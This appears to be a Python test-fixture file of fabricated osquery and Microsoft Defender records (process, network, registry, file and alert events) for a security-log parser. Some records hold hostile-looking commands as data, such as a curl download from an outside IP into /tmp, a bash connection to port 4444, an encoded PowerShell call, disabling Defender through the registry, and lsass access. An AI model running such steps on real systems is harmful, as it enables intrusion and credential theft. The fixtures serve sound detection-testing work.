"""Records of osquery and Microsoft Defender, made up for these tests: (name of the source, record)."""

from __future__ import annotations

from typing import Any

_HOST = {"hostIdentifier": "pc-12", "calendarTime": "Fri Mar 29 05:59:00 2024 UTC", "unixTime": 1711691940}

PROCESS_ADDED = {
    **_HOST,
    "name": "pack_security_process_events",
    "action": "added",
    "columns": {
        "path": "/usr/bin/curl",
        "cmdline": "curl -o /tmp/x http://198.51.100.7/x",
        "pid": "412",
        "parent": "400",
        "auid": "1000",
        "username": "hanako",
        "cwd": "/tmp",
        "time": "1711691939",
    },
    "decorations": {"platform": "ubuntu", "hostname": "pc-12"},
}
MAC_PROCESS = {
    **_HOST,
    "name": "es_process_events",
    "action": "added",
    "columns": {"path": "/usr/bin/osascript", "cmdline": "osascript -e x", "event_type": "exec", "pid": "7"},
    "decorations": {"platform": "darwin"},
}
SOCKET_ADDED = {
    **_HOST,
    "name": "net",
    "action": "added",
    "columns": {
        "action": "connect",
        "path": "/usr/bin/bash",
        "remote_address": "198.51.100.7",
        "remote_port": "4444",
        "local_address": "192.0.2.5",
        "local_port": "50000",
        "pid": "9",
    },
}
FILE_ADDED = {
    **_HOST,
    "name": "pack_fim_file_events",
    "action": "added",
    "columns": {"target_path": "/etc/cron.d/x", "action": "CREATED", "category": "etc", "md5": "d41d8cd9"},
}
SNAPSHOT = {
    **_HOST,
    "name": "pack_it_users",
    "action": "snapshot",
    "snapshot": [{"username": "root", "uid": "0"}, {"username": "hanako", "uid": "1000"}],
}
BATCH = {
    **_HOST,
    "name": "listening",
    "diffResults": {"added": [{"port": "22"}, {"port": "80"}], "removed": [{"port": "8080"}]},
}
STATUS = {
    **_HOST,
    "severity": "1",
    "filename": "scheduler.cpp",
    "line": "83",
    "message": "Executing scheduled query",
    "version": "5.12.1",
}

HUNTING_PROCESS = {
    "Timestamp": "2024-03-29T05:59:00.1234567Z",
    "DeviceId": "d1",
    "DeviceName": "pc-12.example.co.jp",
    "ActionType": "ProcessCreated",
    "FileName": "cmd.exe",
    "FolderPath": "C:\\Windows\\System32\\cmd.exe",
    "SHA1": "ab",
    "MD5": "cd",
    "SHA256": "",
    "ProcessCommandLine": "cmd.exe /c whoami",
    "ProcessIntegrityLevel": "High",
    "ProcessVersionInfoOriginalFileName": "Cmd.Exe",
    "ProcessId": 412,
    "AccountDomain": "example",
    "AccountName": "hanako",
    "InitiatingProcessFileName": "WINWORD.EXE",
    "InitiatingProcessFolderPath": "C:\\Program Files\\Microsoft Office",
    "InitiatingProcessCommandLine": "WINWORD.EXE /n",
    "InitiatingProcessId": 400,
    "ReportId": 1,
}
_ACTOR = {
    "DeviceName": "pc-12.example.co.jp",
    "Timestamp": "2024-03-29T05:59:00Z",
    "InitiatingProcessFileName": "powershell.exe",
    "InitiatingProcessFolderPath": "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe",
    "InitiatingProcessCommandLine": "powershell -enc x",
}
HUNTING_STREAM = {
    "time": "2024-03-29T05:59:00Z",
    "tenantId": "t1",
    "operationName": "Publish",
    "category": "AdvancedHunting-DeviceNetworkEvents",
    "properties": {
        **_ACTOR,
        "ActionType": "InboundConnectionAccepted",
        "RemoteIP": "198.51.100.7",
        "RemotePort": 443,
        "LocalIP": "192.0.2.5",
        "LocalPort": 50000,
    },
}
HUNTING_REGISTRY = {
    **_ACTOR,
    "ActionType": "RegistryValueSet",
    "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender",
    "RegistryValueName": "DisableAntiSpyware",
    "RegistryValueType": "Dword",
    "RegistryValueData": "1",
}
HUNTING_FILE = {**_ACTOR, "ActionType": "FileCreated", "FileName": "x.ps1", "FolderPath": "C:\\Temp\\x.ps1"}
HUNTING_PIPE = {
    **_ACTOR,
    "ActionType": "NamedPipeEvent",
    "AdditionalFields": '{"PipeName":"\\\\Device\\\\NamedPipe\\\\msagent_12"}',
}
HUNTING_DNS = {
    **_ACTOR,
    "ActionType": "DnsQueryResponse",
    "AdditionalFields": {"DnsQueryString": "evil.example", "DnsQueryResult": "[]"},
}
HUNTING_ACCESS = {
    **_ACTOR,
    "ActionType": "OpenProcessApiCall",
    "FileName": "lsass.exe",
    "FolderPath": "C:\\Windows\\System32\\lsass.exe",
    "AdditionalFields": '{"DesiredAccess":4112}',
}
HUNTING_LOGON = {**_ACTOR, "ActionType": "LogonSuccess"}

ALERT_GRAPH = {
    "id": "a1",
    "incidentId": "1",
    "status": "new",
    "severity": "medium",
    "serviceSource": "microsoftDefenderForEndpoint",
    "detectionSource": "antivirus",
    "title": "'Mimikatz' hacktool was detected",
    "threatDisplayName": "HackTool:Win32/Mimikatz",
    "createdDateTime": "2024-03-29T06:10:00Z",
    "firstActivityDateTime": "2024-03-29T05:59:00Z",
    "tenantId": "t1",
    "evidence": [
        {
            "@odata.type": "#microsoft.graph.security.fileEvidence",
            "fileDetails": {"fileName": "mimikatz.exe", "filePath": "C:\\Temp"},
        },
        {"@odata.type": "#microsoft.graph.security.deviceEvidence", "deviceDnsName": "pc-12.example.co.jp"},
    ],
}
ALERT_ENDPOINT = {
    "id": "da1",
    "incidentId": 1,
    "severity": "Low",
    "detectionSource": "WindowsDefenderAv",
    "threatName": "PWS:Win32/Fareit",
    "title": "Malware was prevented",
    "machineId": "m1",
    "computerDnsName": "pc-12.example.co.jp",
    "alertCreationTime": "2024-03-29T06:00:00Z",
    "firstEventTime": "2024-03-29T05:59:00Z",
    "evidence": [{"entityType": "File", "fileName": "a.exe", "filePath": "C:\\Temp"}],
}
ALERT_SENTINEL = {
    "TimeGenerated": "2024-03-29T06:00:00Z",
    "StartTime": "2024-03-29T05:59:00Z",
    "AlertName": "Impossible travel activity",
    "AlertSeverity": "Medium",
    "ProductName": "Microsoft Cloud App Security",
    "SystemAlertId": "s1",
    "CompromisedEntity": "hanako@example.co.jp",
    "Entities": '[{"$id":"2","Name":"HackTool:Win32/Mimikatz","Type":"malware"}]',
    "Type": "SecurityAlert",
}

SAMPLES: tuple[tuple[str, dict[str, Any]], ...] = (
    ("osquery.results", PROCESS_ADDED),
    ("osquery.results", MAC_PROCESS),
    ("osquery.results", SOCKET_ADDED),
    ("osquery.results", FILE_ADDED),
    ("osquery.results", SNAPSHOT),
    ("osquery.results", BATCH),
    ("osquery.status", STATUS),
    ("defender.hunting", HUNTING_PROCESS),
    ("defender.hunting", HUNTING_STREAM),
    ("defender.hunting", HUNTING_REGISTRY),
    ("defender.hunting", HUNTING_FILE),
    ("defender.hunting", HUNTING_PIPE),
    ("defender.hunting", HUNTING_DNS),
    ("defender.hunting", HUNTING_ACCESS),
    ("defender.hunting", HUNTING_LOGON),
    ("defender.alert", ALERT_GRAPH),
    ("defender.alert", ALERT_ENDPOINT),
    ("defender.alert", ALERT_SENTINEL),
)
